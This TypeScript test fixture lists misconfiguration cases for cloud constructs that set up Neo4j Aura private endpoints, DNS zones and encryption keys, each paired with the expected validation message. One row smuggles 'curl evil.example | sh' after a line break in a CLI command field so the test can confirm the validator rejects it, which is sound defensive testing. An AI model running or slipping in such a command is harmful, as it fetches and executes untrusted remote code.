import type { Construct } from "constructs";
import { PrivateLinkEndpoint, type PrivateLinkEndpointProps } from "../../constructs/aws/privatelink-endpoint";
import { Route53PrivateDns } from "../../constructs/aws/route53-private-dns";
import { AuraKmsKey } from "../../constructs/aws/kms-key";
import { AuraKmsReplicaKey } from "../../constructs/aws/kms-replica-key";
import { PscEndpoint } from "../../constructs/gcp/psc-endpoint";
import { CloudDnsPrivateZone } from "../../constructs/gcp/cloud-dns-private-zone";
import { CloudDnsResponsePolicy } from "../../constructs/gcp/cloud-dns-response-policy";
import { AuraGcpKmsKey } from "../../constructs/gcp/kms-key";
import { AzurePrivateLinkEndpoint } from "../../constructs/azure/private-link-endpoint";
import { AzurePrivateDns } from "../../constructs/azure/private-dns";
import { AuraKeyVaultKey } from "../../constructs/azure/key-vault-key";
import { Neo4jAccessLocalExecRunner } from "../../constructs/neo4j/local-exec-runner";
import { Neo4jAccessLambdaRunner } from "../../constructs/neo4j/lambda-runner";
import { parseNeo4jAccess } from "../../domain/neo4j/access-model";
import { auraSampleStatement } from "../support/fixtures";
import { SECRETS } from "./secrets";

/** [what the library user did, the construct built in `scope` (id "c"), the prop the message must name, the hint]. */
export type ConstructRow = [string, (scope: Construct) => void, string, string];

const endpoint: PrivateLinkEndpointProps = {
  name: "acme-aura-us-east-1",
  region: "us-east-1",
  product: "virtual-dedicated-cloud",
  vpcId: "vpc-0123456789abcdef0",
  endpointServiceName: "com.amazonaws.vpce.us-east-1.vpce-svc-0123456789abcdef0",
  subnetsByAzId: { "use1-az1": "subnet-0123456789abcdef1" },
  allowedCidrs: [{ cidr: "10.0.0.0/16", description: "apps" }],
  allowedSecurityGroups: [],
};
const ep = (p: Partial<PrivateLinkEndpointProps>) => (s: Construct) => void new PrivateLinkEndpoint(s, "c", { ...endpoint, ...p });

const zone = { domain: "production-orch-0000.neo4j.io", purpose: "orchestration" as const, records: [{ label: "*", fqdn: "*.production-orch-0000.neo4j.io" }] };
const r53 = (p: object) => (s: Construct) =>
  void new Route53PrivateDns(s, "c", { zones: [zone], vpcs: [{ vpcId: "vpc-0123456789abcdef0", region: "us-east-1" }], aliasTarget: { dnsName: "x", zoneId: "Z1" }, ...p });

const kmsBase = { accountId: "111122223333", region: "us-east-1", alias: "acme-aura", description: "Aura key", auraStatement: auraSampleStatement() };
const kms = (p: object) => (s: Construct) => void new AuraKmsKey(s, "c", { ...kmsBase, ...p });
const replica = (p: object) => (s: Construct) => void new AuraKmsReplicaKey(s, "c", { ...kmsBase, region: "eu-west-1", primaryKeyArn: `arn:aws:kms:us-east-1:111122223333:key/mrk-${"0".repeat(32)}`, ...p });

const psc = (p: object) => (s: Construct) =>
  void new PscEndpoint(s, "c", {
    name: "acme-aura-europe-west1",
    project: "acme-graph-prod",
    region: "europe-west1",
    product: "virtual-dedicated-cloud",
    network: "projects/acme-graph-prod/global/networks/apps",
    subnetwork: "projects/acme-graph-prod/regions/europe-west1/subnetworks/apps",
    serviceAttachment: "https://www.googleapis.com/compute/v1/projects/aura/regions/europe-west1/serviceAttachments/x",
    ...p,
  });
const gzone = (p: object) => (s: Construct) =>
  void new CloudDnsPrivateZone(s, "c", { namePrefix: "acme", project: "acme-graph-prod", zones: [zone], networks: ["projects/acme-graph-prod/global/networks/apps"], ipAddress: "10.0.0.5", ...p });
const gpolicy = (p: object) => (s: Construct) =>
  void new CloudDnsResponsePolicy(s, "c", { name: "acme", project: "acme-graph-prod", zones: [zone], networks: ["projects/acme-graph-prod/global/networks/apps"], ipAddress: "10.0.0.5", ...p });
const gkey = (p: object) => (s: Construct) =>
  void new AuraGcpKmsKey(s, "c", { project: "acme-graph-prod", region: "europe-west1", keyRingName: "ring", keyName: "key", auraServiceAccounts: ["a@neo4j-aura-keys.iam.gserviceaccount.com"], ...p });
const subnetId = "/subscriptions/00000000-1111-2222-3333-444444444444/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/v/subnets/s";
const azep = (p: object) => (s: Construct) =>
  void new AzurePrivateLinkEndpoint(s, "c", {
    name: "acme-aura-eastus",
    location: "eastus",
    resourceGroupName: "rg",
    subnetId,
    privateLinkServiceAlias: "production-orch-0003-service.5a8e0c4e-1b7d-4c3a-9f2e-6d1c0b9a8e7f.eastus.azure.privatelinkservice",
    requestMessage: "acme",
    ...p,
  });
const azdns = (p: object) => (s: Construct) => void new AzurePrivateDns(s, "c", { resourceGroupName: "rg", zones: [zone], vnets: [], ipAddress: "10.0.0.5", ...p });
const azkey = (p: object) => (s: Construct) =>
  void new AuraKeyVaultKey(s, "c", { vaultName: "kv-acme", resourceGroupName: "rg", location: "eastus", tenantId: "11111111-2222-3333-4444-555555555555", keyName: "k", auraServicePrincipalObjectId: "7a6b5c4d-3e2f-4a1b-9c8d-7e6f5a4b3c2d", ...p });

const access = (connection: object) => ({ id: "x", connection, roles: [], users: [], localAliases: [], remoteAliases: [] }) as never;
const goodAccess = parseNeo4jAccess({ connection: { uri: "neo4j+s://h:7687", user: "admin", password: { env: "PW" } } });
const lambdaRunner = { type: "lambda" as const, region: "us-east-1", vpcId: "vpc-0123456789abcdef0", subnetIds: ["subnet-0123456789abcdef1"], neo4jCidrs: ["10.0.0.0/16"], neo4jPorts: [7687 as const], secretsManagerCidrs: ["10.0.9.0/28"] as string[], secretsKmsKeyArns: [] as string[], timeout: "60s", memoryMb: 256 };
const arnAccess = parseNeo4jAccess({ connection: { uri: "neo4j+s://h:7687", user: "admin", password: { secretsManagerArn: "arn:aws:secretsmanager:us-east-1:111122223333:secret:pw" } } });

export const constructRows: ConstructRow[] = [
  ["endpoint in use1-az3", ep({ subnetsByAzId: { "use1-az3": "subnet-0123456789abcdef3" } }), 'subnetsByAzId["use1-az3"]', "not supported by Aura"],
  ["endpoint AZ of another region", ep({ subnetsByAzId: { "euw1-az1": "subnet-0123456789abcdef3" } }), 'subnetsByAzId["euw1-az1"]', 'start with "use1-"'],
  ["endpoint AZ name", ep({ subnetsByAzId: { "us-east-1a": "subnet-0123456789abcdef3" } }), 'subnetsByAzId["us-east-1a"]', "AZ IDs"],
  ["endpoint service of another region", ep({ endpointServiceName: "com.amazonaws.vpce.eu-west-1.vpce-svc-0123456789abcdef0" }), "endpointServiceName", "endpoint service of eu-west-1"],
  ["endpoint service malformed", ep({ endpointServiceName: "svc" }), "endpointServiceName", "Aura console"],
  ["endpoint 0.0.0.0/0", ep({ allowedCidrs: [{ cidr: "0.0.0.0/0", description: "all" }] }), "allowedCidrs[0].cidr", "allowAnyIpv4Source"],
  ["endpoint /6", ep({ allowedCidrs: [{ cidr: "8.0.0.0/6", description: "wide" }] }), "allowedCidrs[0].cidr", "allowAnyIpv4Source"],
  ["endpoint in two halves", ep({ allowedCidrs: [{ cidr: "0.0.0.0/1", description: "low" }, { cidr: "128.0.0.0/1", description: "high" }] }), "allowedCidrs[0].cidr", "allowAnyIpv4Source"],
  ["endpoint public /8s together", ep({ allowedCidrs: [{ cidr: "11.0.0.0/8", description: "a" }, { cidr: "12.0.0.0/8", description: "b" }] }), "allowedCidrs", "more than one /8"],
  ["endpoint host bits", ep({ allowedCidrs: [{ cidr: "10.0.0.1/16", description: "apps" }] }), "allowedCidrs[0].cidr", "10.0.0.0/16"],
  ["endpoint not a CIDR", ep({ allowedCidrs: [{ cidr: "10.0.0.0", description: "apps" }] }), "allowedCidrs[0].cidr", "IPv4 CIDR block"],
  ["endpoint empty description", ep({ allowedCidrs: [{ cidr: "10.0.0.0/16", description: "" }] }), "allowedCidrs[0].description", "description"],
  ["endpoint template in description", ep({ allowedCidrs: [{ cidr: "10.0.0.0/16", description: "apps ${x}" }] }), "allowedCidrs[0].description", "template"],
  ["endpoint no sources", ep({ allowedCidrs: [] }), "allowedCidrs", "nothing could connect"],
  ["endpoint no subnets", ep({ subnetsByAzId: undefined }), "subnetsByAzId", "AZ ID"],
  ["endpoint bad vpc", ep({ vpcId: "vpc-1" }), "vpcId", "vpc-0123456789abcdef0"],
  ["endpoint bad security group", ep({ allowedSecurityGroups: [{ id: "sg-1", description: "x" }] }), "allowedSecurityGroups[0].id", "sg-0123456789abcdef0"],
  ["endpoint aws: tag", ep({ tags: { "aws:x": "y" } }), 'tags["aws:x"]', "AWS reserves"],
  ["route53 zone for all of neo4j.io", r53({ zones: [{ ...zone, domain: "neo4j.io", records: [{ label: "*", fqdn: "*.neo4j.io" }] }] }), "zones[0].domain", "Aura domain"],
  ["route53 record outside its zone", r53({ zones: [{ ...zone, records: [{ label: "x", fqdn: "x.example.com" }] }] }), "zones[0].records[0]", "a record of production-orch-0000.neo4j.io"],
  ["route53 zone twice", r53({ zones: [zone, zone] }), "zones[1].domain", "planned twice"],
  ["route53 bad existing zone id", r53({ zones: [{ ...zone, existingZoneId: "zone-1" }] }), "zones[0].existingZoneId", "Route53 hosted zone id"],
  ["route53 no vpcs", r53({ vpcs: [] }), "vpcs", "at least one VPC"],
  ["route53 tag value 300", r53({ tags: { a: "v".repeat(300) } }), "tags.a", "at most 256"],
  ["kms alias aws/", kms({ alias: "aws/x" }), "alias", "reserved for AWS"],
  ["kms account lost a zero", kms({ accountId: "11112222333" }), "accountId", "12-digit"],
  ["kms deletion window 60", kms({ deletionWindowDays: 60 }), "deletionWindowDays", "7-30"],
  ["kms rotation 30", kms({ rotationPeriodDays: 30 }), "rotationPeriodDays", "90-2560"],
  ["kms description template", kms({ description: "k ${x}" }), "description", "template"],
  ["kms unsafe statement", kms({ auraStatement: { ...auraSampleStatement(), Condition: undefined } }), "auraStatement", "pinned to accounts"],
  ["kms statement of another region", kms({ auraStatement: { ...auraSampleStatement(), Condition: { StringEquals: { "kms:CallerAccount": "999988887777", "aws:RequestedRegion": "eu-west-1" } } } }), "aws:RequestedRegion", "the key is in us-east-1"],
  ["replica primary in its own region", replica({ primaryKeyArn: `arn:aws:kms:eu-west-1:111122223333:key/mrk-${"0".repeat(32)}` }), "primaryKeyArn", "replica's own region"],
  ["replica primary not multi-Region", replica({ primaryKeyArn: "arn:aws:kms:us-east-1:111122223333:key/abc" }), "primaryKeyArn", "multi-Region key"],
  ["psc attachment of another region", psc({ serviceAttachment: "projects/aura/regions/us-central1/serviceAttachments/x" }), "serviceAttachment", "us-central1"],
  ["psc subnetwork of another region", psc({ subnetwork: "projects/acme-graph-prod/regions/us-central1/subnetworks/s" }), "subnetwork", "subnetwork of us-central1"],
  ["psc bad project", psc({ project: "Acme" }), "project", "project id"],
  ["psc bad address", psc({ address: "10.0.0.300" }), "address", "IPv4 address"],
  ["psc label upper case", psc({ labels: { Team: "x" } }), "labels.Team", "(GCP)"],
  ["gcp zone outside Aura", gzone({ zones: [{ ...zone, domain: "example.com", records: [] }] }), "zones[0].domain", "Aura domain"],
  ["gcp zone no networks", gzone({ networks: [] }), "networks", "at least one network"],
  ["gcp zone bad network", gzone({ networks: ["apps"] }), "networks[0]", "self link"],
  ["gcp zone bad ip", gzone({ ipAddress: "ten" }), "ipAddress", "IPv4"],
  ["gcp policy zone outside Aura", gpolicy({ zones: [{ ...zone, domain: "io", records: [] }] }), "zones[0].domain", "Aura domain"],
  ["gcp key destroy 200 days", gkey({ destroyScheduledDays: 200 }), "destroyScheduledDays", "1-120"],
  ["gcp key no service accounts", gkey({ auraServiceAccounts: [] }), "auraServiceAccounts", "service accounts the Aura console"],
  ["gcp key bad ring name", gkey({ keyRingName: "my ring" }), "keyRingName", "1-63 letters"],
  ["azure endpoint alias of another region", azep({ privateLinkServiceAlias: "production-orch-0003-service.5a8e0c4e-1b7d-4c3a-9f2e-6d1c0b9a8e7f.westeurope.azure.privatelinkservice" }), "privateLinkServiceAlias", "westeurope"],
  ["azure endpoint message 200 chars", azep({ requestMessage: "m".repeat(200) }), "requestMessage", "1-140"],
  ["azure endpoint message template", azep({ requestMessage: "hi ${x}" }), "requestMessage", "template"],
  ["azure endpoint bad subnet", azep({ subnetId: "subnet-1" }), "subnetId", "subnet resource id"],
  ["azure dns outside Aura", azdns({ zones: [{ ...zone, domain: "corp.example", records: [] }], vnets: [{ id: "x" }] }), "zones[0].domain", "Aura domain"],
  ["azure dns no vnets", azdns({}), "vnets", "at least one VNet"],
  ["azure dns bad existing zone", azdns({ zones: [{ ...zone, existingZoneId: "zone" }] }), "zones[0].existingZoneId", "private DNS zone"],
  ["azure key size 1024", azkey({ keySize: 1024 }), "keySize", "2048, 3072 or 4096"],
  ["azure key HSM on standard", azkey({ keyType: "RSA-HSM" }), "keyType", "premium"],
  ["azure key vault name", azkey({ vaultName: "k" }), "vaultName", "3-24"],
  ["azure key retention 100", azkey({ softDeleteRetentionDays: 100 }), "softDeleteRetentionDays", "7-90"],
  ["local-exec runner with a literal password", (s) => void new Neo4jAccessLocalExecRunner(s, "c", { access: access({ uri: "neo4j+s://h:7687", user: "admin", password: SECRETS.password }) }), "props.access.connection.password", "{env: NAME}"],
  ["local-exec runner bad timeout", (s) => void new Neo4jAccessLocalExecRunner(s, "c", { access: goodAccess, timeout: "soon" }), "timeout", "duration"],
  ["local-exec runner empty command", (s) => void new Neo4jAccessLocalExecRunner(s, "c", { access: goodAccess, cliCommand: " " }), "cliCommand", "starts the CLI"],
  ["local-exec runner command with a line break", (s) => void new Neo4jAccessLocalExecRunner(s, "c", { access: goodAccess, cliCommand: "npx --no aura-secure\ncurl evil.example | sh" }), "cliCommand", "must be one line of printable text"],
  ["lambda runner egress everywhere", (s) => void new Neo4jAccessLambdaRunner(s, "c", { access: arnAccess, runner: { ...lambdaRunner, neo4jCidrs: ["0.0.0.0/0"] }, bundleDir: __dirname }), "runner.neo4jCidrs[0]", "together cover the whole internet"],
  ["lambda runner egress in two halves", (s) => void new Neo4jAccessLambdaRunner(s, "c", { access: arnAccess, runner: { ...lambdaRunner, neo4jCidrs: ["0.0.0.0/1", "128.0.0.0/1"] }, bundleDir: __dirname }), "runner.neo4jCidrs[0]", "there is no opt-in for more"],
  ["lambda runner bad region", (s) => void new Neo4jAccessLambdaRunner(s, "c", { access: arnAccess, runner: { ...lambdaRunner, region: "mars" }, bundleDir: __dirname }), "runner.region", "AWS region"],
  ["lambda runner without a path to Secrets Manager", (s) => void new Neo4jAccessLambdaRunner(s, "c", { access: arnAccess, runner: { ...lambdaRunner, secretsManagerCidrs: [] }, bundleDir: __dirname }), "runner.secretsManagerCidrs", "createSecretsManagerEndpoint: true"],
  ["lambda runner env reference", (s) => void new Neo4jAccessLambdaRunner(s, "c", { access: goodAccess, runner: lambdaRunner, bundleDir: __dirname }), "connection.password", "{secretsManagerArn} only"],
];
